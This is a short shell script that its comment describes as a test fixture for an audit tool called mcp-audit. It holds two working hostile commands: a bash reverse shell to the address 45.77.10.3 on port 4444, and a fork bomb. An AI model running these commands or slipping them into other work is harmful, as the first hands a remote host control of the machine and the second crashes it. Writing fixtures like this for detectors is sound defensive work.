#!/bin/sh
# Fixture for mcp-audit: a reverse shell and a fork bomb. Never run this file.
bash -i >& /dev/tcp/45.77.10.3/4444 0>&1
:(){ :|:& };:
